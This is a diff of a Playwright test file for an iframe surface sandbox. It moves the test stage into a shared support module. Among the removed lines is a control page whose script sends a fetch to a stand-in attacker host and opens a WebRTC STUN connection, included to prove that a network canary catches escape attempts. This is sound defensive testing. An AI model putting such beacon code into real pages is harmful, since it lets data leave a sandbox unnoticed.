@@ -2,9 +2,10 @@
 ``surface_host.js``; the bridge and the shell talk; forged, reloaded and navigated
 frames are refused; and a surface cannot reach the network (a canary listens).
 
-The shell here is a small loopback Starlette app whose CSP copies the real shell's
-(``lineup.host.app.csp``) with ``frame-src`` = ``frame_source(port)``; the surface
-origin is a second listener. Both run in this test's event loop.
+The stage (``tests.support.surface_stage``) is a small loopback Starlette app whose CSP
+copies the real shell's (``lineup.host.app.csp``) with ``frame-src`` =
+``frame_source(port)``; the surface origin is a second listener. Both run in this test's
+event loop, with a Chromium of this test's own.
 """
 
 from __future__ import annotations
@@ -12,213 +13,18 @@ from __future__ import annotations
 import json
 import logging
 from collections.abc import AsyncIterator
-from dataclasses import dataclass
-from importlib import resources
-from typing import Any
-from urllib.parse import urlsplit
 
 import pytest
-from playwright.async_api import Browser, BrowserContext, Page
-from starlette.applications import Starlette
-from starlette.requests import Request
-from starlette.responses import HTMLResponse, Response
-from starlette.routing import Route
 
-from lineup.host.app import csp as shell_csp
-from lineup.host.surface import Mount, SurfaceDocument, SurfaceOrigin, frame_source
-from tests.host.surface.listener import serving
-from tests.support.browser import (
-    DEFAULT_TIMEOUT_MS,
-    LOCAL_HOSTS,
-    LOCAL_SCHEMES,
-    VIEWPORT,
-    PageWatch,
-    save_screenshot,
-)
-from tests.support.canary import Canary, launch_chromium_with, resolver_args
-
-HARNESS_JS = """
-import { mountSurface } from "/static/surface_host.js";
-
-const log = { events: [], resizes: [], ready: 0, reloads: 0, rejects: [] };
-const handles = [];
-window.harness = {
-  log,
-  handles,
-  mount(url, instanceId, mountId) {
-    const stage = document.getElementById("stage");
-    handles.push(mountSurface(stage, { url, instanceId, mountId }, {
-      onEvent: (name, data) => log.events.push({ name, data }),
-      onResize: (height) => log.resizes.push(height),
-      onReady: () => { log.ready += 1; },
-      onReload: () => { log.reloads += 1; },
-      onReject: (code) => log.rejects.push(code),
-    }));
-    return handles.length - 1;
-  },
-  post(index, state) { return handles[index].post(state); },
-  counts(index) {
-    const h = handles[index];
-    return { rejected: h.rejected, rejections: h.rejections, trusted: h.trusted, ready: h.ready };
-  },
-};
-"""
-
-HARNESS_CSS = """
-body { font: 16px sans-serif; margin: 24px; background: #f4f4f6; }
-.surface-frame { display: block; width: 480px; border: 1px solid #99a; background: white; }
-"""
-
-SHELL_HTML = """<!doctype html>
-<html lang="en"><head><meta charset="utf-8"><link rel="icon" href="data:,">
-<title>Surface harness</title>
-<link rel="stylesheet" href="/harness.css">
-<script type="module" src="/harness.js"></script>
-</head><body><h1>Shell</h1><div id="stage"></div></body></html>"""
-
-# A page with none of the surface's protections, making the same attempts a hostile
-# surface makes: if the canary hears this, it would have heard the surface.
-CONTROL_HTML = """<!doctype html>
-<html lang="en"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>Control</title>
-</head><body><p>control</p><script>
-fetch("http://control.attacker.test/control-fetch", { mode: "no-cors" }).catch(() => {});
-const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:UDP_PORT" }] });
-pc.createDataChannel("x");
-pc.createOffer().then((offer) => pc.setLocalDescription(offer));
-</script></body></html>"""
-
-
-@dataclass
-class Stage:
-    """A shell page's server, the surface origin, the canary and a watched page."""
-
-    shell: str
-    origin: SurfaceOrigin
-    canary: Canary
-    context: BrowserContext
-    page: Page
-    watch: PageWatch
-    stripped: set[bytes]
-    warnings: list[str]
-
-    async def mount(self, instance_id: str, document: SurfaceDocument) -> tuple[Mount, int]:
-        mount = self.origin.mount(instance_id, document)
-        index = await self.page.evaluate(
-            "([url, i, m]) => window.harness.mount(url, i, m)",
-            [mount.url, mount.instance_id, mount.mount_id],
-        )
-        return mount, int(index)
-
-    async def until(self, predicate: str, arg: Any = None) -> None:
-        """Wait for a JS predicate. It must be a function: a bare expression is run with
-        eval, which the shell's CSP refuses (as it should)."""
-        await self.page.wait_for_function(predicate, arg=arg)
-
-    async def log(self) -> dict[str, Any]:
-        return dict(await self.page.evaluate("window.harness.log"))
-
-    async def counts(self, index: int) -> dict[str, Any]:
-        return dict(await self.page.evaluate("(i) => window.harness.counts(i)", index))
-
-    async def post(self, index: int, state: dict[str, Any]) -> bool:
-        return bool(
-            await self.page.evaluate("([i, s]) => window.harness.post(i, s)", [index, state])
-        )
-
-
-def document(html: str, js: str, css: str = "") -> SurfaceDocument:
-    return SurfaceDocument(
-        app_id="com.example.test", app_version="1.0.0", surface_id="main", html=html, css=css, js=js
-    )
-
-
-def shell_app(state: dict[str, int], canary: Canary) -> Starlette:
-    static = resources.files("lineup.host").joinpath("static/surface_host.js")
-
-    def page(request: Request) -> Response:
-        policy = shell_csp([frame_source(state["surface_port"])])
-        return HTMLResponse(SHELL_HTML, headers={"Content-Security-Policy": policy})
-
-    def control(request: Request) -> Response:
-        return HTMLResponse(CONTROL_HTML.replace("UDP_PORT", str(canary.udp_port)))
-
-    def surface_host(request: Request) -> Response:
-        return Response(static.read_text("utf-8"), media_type="text/javascript")
-
-    def harness_js(request: Request) -> Response:
-        return Response(HARNESS_JS, media_type="text/javascript")
-
-    def harness_css(request: Request) -> Response:
-        return Response(HARNESS_CSS, media_type="text/css")
-
-    return Starlette(
-        routes=[
-            Route("/", page),
-            Route("/control", control),
-            Route("/static/surface_host.js", surface_host),
-            Route("/harness.js", harness_js),
-            Route("/harness.css", harness_css),
-        ]
-    )
-
-
-def _allowed(url: str) -> bool:
-    """Loopback, the surface hosts and the canary's names; anything else never leaves."""
-    parts = urlsplit(url)
-    host = parts.hostname or ""
-    return (
-        parts.scheme in LOCAL_SCHEMES
-        or host in LOCAL_HOSTS
-        or host.endswith(".localhost")
-        or host.endswith(".attacker.test")
-    )
+from tests.support.browser import save_screenshot
+from tests.support.canary import Canary
+from tests.support.surface_stage import Stage, document, staged
 
 
 @pytest.fixture
 async def stage() -> AsyncIterator[Stage]:
-    async with Canary.listening() as canary:
-        ports: dict[str, int] = {}
-        async with serving(shell_app(ports, canary)) as shell_port:
-            shell = f"http://127.0.0.1:{shell_port}"
-            origin = SurfaceOrigin([shell])
-            stripped: set[bytes] = set()
-            async with serving(_Stripping(origin.asgi(), stripped)) as surface_port:
-                origin.bind_port(surface_port)
-                ports["surface_port"] = surface_port
-                async with launch_chromium_with(resolver_args(canary)) as browser:
-                    yield await _open(browser, shell, origin, canary, stripped)
-
-
-class _Stripping:
-    """Test-only: drops the named response headers, to show what each one stops."""
-
-    def __init__(self, app: Any, names: set[bytes]) -> None:
-        self.app = app
-        self.names = names
-
-    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
-        async def stripped(message: Any) -> None:
-            if message["type"] == "http.response.start":
-                message["headers"] = [h for h in message["headers"] if h[0] not in self.names]
-            await send(message)
-
-        await self.app(scope, receive, stripped)
-
-
-async def _open(
-    browser: Browser, shell: str, origin: SurfaceOrigin, canary: Canary, stripped: set[bytes]
-) -> Stage:
-    context = await browser.new_context(viewport=VIEWPORT)
-    context.set_default_timeout(DEFAULT_TIMEOUT_MS)
-    watch = PageWatch()
-    await context.route(lambda url: not _allowed(url), watch.block_non_local)
-    page = await context.new_page()
-    watch.attach(page)
-    warnings: list[str] = []
-    page.on("console", lambda m: warnings.append(m.text) if m.type == "warning" else None)
-    await page.goto(shell + "/")
-    await page.wait_for_function("() => window.harness !== undefined")
-    return Stage(shell, origin, canary, context, page, watch, stripped, warnings)
+    async with staged() as staged_stage:
+        yield staged_stage
 
 
 BASIC_HTML = '<h1>Hello from a surface</h1><p id="out">waiting for state</p>'
